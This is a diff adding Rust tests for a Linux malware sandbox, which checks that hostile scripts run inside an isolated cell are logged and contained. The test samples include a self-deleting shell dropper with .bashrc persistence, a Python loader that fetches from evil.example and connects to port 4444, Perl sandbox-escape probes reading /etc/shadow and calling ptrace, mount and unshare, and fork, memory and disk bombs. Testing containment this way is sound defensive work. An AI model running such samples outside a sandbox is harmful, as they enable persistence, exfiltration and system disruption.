@@ -1,0 +1,214 @@
+//! Programs and scripts of Linux, run for real behind real walls: what they do is written down, and nothing of it gets out.
+
+#![allow(clippy::unwrap_used, clippy::expect_used)]
+
+mod support;
+
+use std::path::{Path, PathBuf};
+use std::time::{Duration, Instant};
+
+use postern_model::sandbox::{Action, Report};
+use postern_sandbox::cell::{CellError, Cells};
+use postern_sandbox::job::Job;
+use postern_sandbox::limits::Limits;
+use support::documents::archive;
+use support::{job, names};
+
+/// `None` where no cell, or none for programs, can be had.
+async fn run_as(job: Job, content: &[u8]) -> Option<Report> {
+    match Cells::new(PathBuf::from(env!("CARGO_BIN_EXE_postern-cell"))).run(&job, content).await {
+        Ok(report) => match report.timeline.iter().find(|e| e.text == "not run") {
+            Some(event) if event.detail.contains("nothing that runs") || event.detail.contains("not permitted") => {
+                println!("skipped: {}", event.detail);
+                None
+            }
+            Some(event) => panic!("{}", event.detail),
+            None => Some(report),
+        },
+        Err(CellError::Walls(why)) if why.contains("EPERM") || why.contains("ENOSPC") => {
+            println!("skipped: {why}");
+            None
+        }
+        Err(error) => panic!("{error}"),
+    }
+}
+
+async fn run(name: &str, content: &str) -> Option<Report> {
+    run_as(job(name), content.as_bytes()).await
+}
+
+fn did(report: &Report, action: Action, text: &str) -> bool {
+    report.timeline.iter().any(|e| e.action == action && e.text.contains(text))
+}
+
+/// What it printed.
+fn printed(report: &Report) -> String {
+    report.timeline.iter().find(|e| e.action == Action::Show).map(|e| e.text.clone()).unwrap_or_default()
+}
+
+#[tokio::test]
+async fn a_script_that_ends_at_once_is_quick() {
+    let Some(_) = run("quick.sh", "#!/bin/sh\nexit 0\n").await else { return };
+    let mut best = Duration::MAX;
+    for _ in 0..5 {
+        let began = Instant::now();
+        let report = run("quick.sh", "#!/bin/sh\nexit 0\n").await.unwrap();
+        best = best.min(began.elapsed());
+        assert_eq!(report.timeline.iter().map(|e| e.action).collect::<Vec<_>>(), [Action::Begin, Action::End], "{report:#?}");
+        assert_eq!(report.timeline[1].detail, "code 0");
+    }
+    println!("{best:?} at best");
+}
+
+#[tokio::test]
+async fn a_dropper_in_shell_shows_all_that_it_does() {
+    let script = "#!/bin/sh\ncd /tmp\nprintf '#!/bin/sh\\necho hi\\n' > /tmp/stage2\nchmod +x /tmp/stage2\n/tmp/stage2\n\
+                  echo '* * * * * /tmp/stage2' >> /home/user/.bashrc\nrm -f \"$0\"\n";
+    let Some(report) = run_as(job("invoice.zip"), &archive(&[("run.sh", script.as_bytes())], None)).await else { return };
+    for (action, text) in [
+        (Action::Begin, "/home/user/run.sh"),
+        (Action::Write, "/tmp/stage2"),
+        (Action::Start, "/tmp/stage2"),
+        (Action::Write, "/home/user/.bashrc"),
+        (Action::Move, "/home/user/run.sh"),
+        (Action::Show, "hi"),
+    ] {
+        assert!(did(&report, action, text), "{action:?} {text}: {:#?}", report.timeline);
+    }
+    let found = names(&report);
+    for name in ["SCRIPT", "NATIVE_STARTS", "NATIVE_WRITES", "NATIVE_DROPPER", "NATIVE_PERSISTS", "NATIVE_REMOVES_ITSELF"] {
+        assert!(found.contains(&name), "{name}: {found:?}");
+    }
+    assert!(report.findings.iter().filter(|f| f.name.name().starts_with("NATIVE")).all(|f| f.part == 1), "{:?}", report.findings);
+}
+
+#[tokio::test]
+async fn the_network_answers_and_leads_nowhere() {
+    let script = "import socket, urllib.request\n\
+                  print(urllib.request.urlopen('http://evil.example/a.sh', timeout=3).read().decode())\n\
+                  print(socket.create_connection(('203.0.113.9', 4444), 3).send(b'hello from inside'))\n\
+                  import smtplib; s = smtplib.SMTP('mx.example', 25, timeout=3); s.sendmail('a@evil.example', ['b@victim.example'], 'x'); s.quit()\n\
+                  s = socket.create_connection(('files.example', 443), 3)\n\
+                  import ssl\n\
+                  try: ssl.create_default_context().wrap_socket(s, server_hostname='files.example')\n\
+                  except Exception as e: pass\n";
+    let Some(report) = run("loader.py", script).await else { return };
+    for (action, text) in [
+        (Action::Resolve, "evil.example"),
+        (Action::Load, "GET http://evil.example/a.sh"),
+        (Action::Connect, "203.0.113.9:4444"),
+        (Action::Load, "smtp rcpt TO:<b@victim.example>"),
+        (Action::Load, "https://files.example/"),
+        (Action::Resolve, "desktop"),
+    ] {
+        assert!(did(&report, action, text), "{action:?} {text}: {:#?}", report.timeline);
+    }
+    assert!(printed(&report).contains("exit 0"), "{}", printed(&report));
+    assert!(report.timeline.iter().any(|e| e.detail.contains("hello from inside")), "{:#?}", report.timeline);
+    assert!(report.contacted().contains(&"evil.example") && names(&report).contains(&"NATIVE_LOADS"));
+}
+
+#[tokio::test]
+async fn perl_and_programs_run_too() {
+    let Some(report) = run("a.pl", "print 'sum: ', 40 + 2, \"\\n\"; open(F, '/etc/shadow') or print \"closed\\n\"; exit 7;").await else {
+        return;
+    };
+    assert!(printed(&report).contains("sum: 42") && printed(&report).contains("closed"), "{:#?}", report.timeline);
+    assert_eq!(report.timeline.last().unwrap().detail, "code 7");
+    assert!(did(&report, Action::Read, "/etc/shadow"), "{:#?}", report.timeline);
+    let program = ["/usr/bin/uname", "/bin/uname"].iter().find_map(|path| std::fs::read(path).ok()).unwrap();
+    let report = run_as(job("program"), &program).await.unwrap();
+    assert_eq!(printed(&report).trim(), "Linux", "{:#?}", report.timeline);
+}
+
+#[tokio::test]
+async fn what_is_not_run_is_not() {
+    let Some(report) = run("a.sh", "#!/bin/sh\necho hi\n").await else { return };
+    assert!(did(&report, Action::Show, "hi"));
+    let limits = Limits { programs: Duration::ZERO, ..Limits::default() };
+    let report = run_as(Job { limits, ..job("a.sh") }, b"#!/bin/sh\necho hi\n").await.unwrap();
+    assert!(report.timeline.is_empty(), "{:#?}", report.timeline);
+    let report = run("a.awk", "#!/usr/bin/awk -f\nBEGIN { print }\n").await.unwrap();
+    assert!(report.timeline.is_empty(), "{:#?}", report.timeline);
+}
+
+/// What content that runs could try. Perl, for it makes any call there is, and is on every Debian.
+#[tokio::test]
+async fn nothing_gets_out() {
+    let Some(_) = run("a.pl", "print 1;").await else { return };
+    let host = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    host.set_nonblocking(true).unwrap();
+    let socket = tempfile::tempdir().unwrap();
+    let path = socket.path().join("host.sock");
+    let unix = std::os::unix::net::UnixListener::bind(&path).unwrap();
+    unix.set_nonblocking(true).unwrap();
+    let secret = socket.path().join("secret");
+    std::fs::write(&secret, "of this machine").unwrap();
+    let tries = [
+        ("read a host file", format!("open(F, '{}') and print 'got out'; open(F, '/etc/machine-id') and print 'got out';", secret.display())),
+        ("list the host's files", "print 'got out' if -e '/var/lib/dpkg' or -e '/root' or -e '/home/user/../../work/printed/x' or -e '/sys/kernel';".to_owned()),
+        ("write into the system", "open(F, '>/usr/bin/evil') and print 'got out'; open(F, '>/etc/passwd') and print 'got out'; open(F, '>/x') and print 'got out';".to_owned()),
+        ("change the machine", "open(F, '>/proc/sys/kernel/core_pattern') and print 'got out'; open(F, '>/proc/sysrq-trigger') and print 'got out'; open(F, '>/dev/kmsg') and print 'got out';".to_owned()),
+        ("see other processes", "opendir(D, '/proc') and print 'got out'; open(F, '/proc/1/mem') and print 'got out'; print 'got out' if kill(9, 1) && !kill(0, 1);".to_owned()),
+        ("reach a host's port", format!("use Socket; socket(S, PF_INET, SOCK_STREAM, 0); connect(S, sockaddr_in({}, inet_aton('127.0.0.1'))); syswrite(S, 'x'); sleep 1;", host.local_addr().unwrap().port())),
+        ("reach a host's socket", format!("use Socket; socket(S, PF_UNIX, SOCK_STREAM, 0); connect(S, sockaddr_un('{}')) and print 'got out';", path.display())),
+        ("a raw socket", "socket(S, 2, 3, 1) and print 'got out'; socket(S, 17, 3, 0) and print 'got out'; socket(S, 16, 3, 0) and print 'got out';".to_owned()),
+        ("a device", "my $p = '/tmp/d'; print 'got out' if syscall(133, $p, 0x61b0, 0x800) == 0 && open(F, $p);".to_owned()),
+        ("become somebody", "print 'got out' if syscall(105, 1000) == 0 && $< == 1000;".to_owned()),
+    ];
+    for (what, script) in tries {
+        let report = run("a.pl", &script).await.unwrap();
+        assert_eq!(printed(&report), "", "{what}: {:#?}", report.timeline);
+        assert!(report.timeline.last().unwrap().action == Action::End, "{what}: {:#?}", report.timeline);
+    }
+    assert!(host.accept().is_err() && unix.accept().is_err(), "a host's socket was reached");
+    assert!(!Path::new("/usr/bin/evil").exists());
+    let calls = [
+        ("ptrace", 101, "16, 1, 0, 0"),
+        ("mount", 165, "$p, $p, $p, 0, 0"),
+        ("unshare", 272, "0x10000000"),
+        ("setns", 308, "3, 0"),
+        ("keyctl", 250, "0, 0, 0, 0, 0"),
+        ("userfaultfd", 323, "1"),
+        ("perf_event_open", 298, "0, 0, -1, -1, 0"),
+        ("bpf", 321, "0, 0, 0"),
+        ("process_vm_readv", 310, "1, 0, 0, 0, 0, 0"),
+        ("open_by_handle_at", 304, "0, 0, 0"),
+        ("finit_module", 313, "0, 0, 0"),
+        ("clone", 56, "0x10000000 | 17, 0, 0, 0, 0"),
+    ];
+    for (name, number, arguments) in calls {
+        let arguments: Vec<String> =
+            arguments.split(", ").map(|a| if a.starts_with('$') { a.to_owned() } else { format!("0 + {a}") }).collect();
+        let report = run("a.pl", &format!("my $p = '/tmp'; my $x = syscall({number}, {}); print \"returned $x\";", arguments.join(", ")))
+            .await
+            .unwrap();
+        assert!(did(&report, Action::Refused, name) && names(&report).contains(&"NATIVE_ESCAPE"), "{name}: {:#?}", report.timeline);
+        assert_eq!(printed(&report), "returned -1", "{name}");
+    }
+}
+
+#[tokio::test]
+async fn bombs_end_in_the_cell() {
+    let Some(_) = run("a.pl", "print 1;").await else { return };
+    let few = |name: &str| Job { limits: Limits { programs: Duration::from_secs(2), memory: 256 << 20, ..Limits::default() }, ..job(name) };
+    let bombs = [
+        ("forks", "fork while 1;"),
+        ("memory", "my @a; push @a, 'x' x (1 << 20) while 1;"),
+        ("memory of many", "for (1..20) { last unless fork } my $a = 'x' x (40 << 20); sleep 5;"),
+        (
+            "disk",
+            "open(F, '>/tmp/big'); print F 'x' x (1 << 20) or last while 1; $i = 0; while (1) { open(G, '>/tmp/f' . $i++) or last } print 'full';",
+        ),
+        ("time", "1 while 1;"),
+        ("events", "for (1..100000) { open(F, '>/tmp/n' . $_); unlink('/tmp/n' . $_) }"),
+        ("sleep", "sleep 100;"),
+    ];
+    for (what, script) in bombs {
+        let began = Instant::now();
+        let report = run_as(few("bomb.pl"), script.as_bytes()).await.unwrap();
+        println!("{what}: {:?}, {:?}", began.elapsed(), report.timeline.last().unwrap());
+        assert!(began.elapsed() < Duration::from_secs(8), "{what}: {:?}", began.elapsed());
+        assert!(report.is_sound() && !names(&report).contains(&"CELL_BROKEN"), "{what}: {:#?}", report.findings);
+    }
+}
